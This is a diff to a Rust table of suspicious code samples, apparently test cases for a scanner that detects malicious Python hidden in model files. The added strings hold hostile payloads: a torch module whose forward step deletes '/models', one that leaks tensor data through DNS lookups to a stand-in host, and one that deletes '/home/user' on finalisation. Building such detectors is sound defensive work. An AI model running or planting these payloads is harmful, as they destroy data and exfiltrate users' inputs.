@@ -153,6 +153,14 @@ const SUSPICIOUS: &[(&str, &str)] = &[
         "python/persistence",
     ),
     (
+        "import shutil\nfrom torch import nn\nclass M(nn.Module):\n    def forward(self, x):\n        shutil.rmtree('/models')\n        return x\n",
+        "python/persistence",
+    ),
+    (
+        "import socket\nfrom torch import nn\nclass M(nn.Module):\n    def forward(self, x):\n        socket.getaddrinfo(x.cpu().numpy().tobytes().hex() + '.t.example.org', 80)\n        return x\n",
+        "python/exfiltration",
+    ),
+    (
         "import weakref, shutil\nclass A: pass\na = A()\nweakref.finalize(a, shutil.rmtree, '/home/user')\n",
         "python/writes-on-import",
     ),
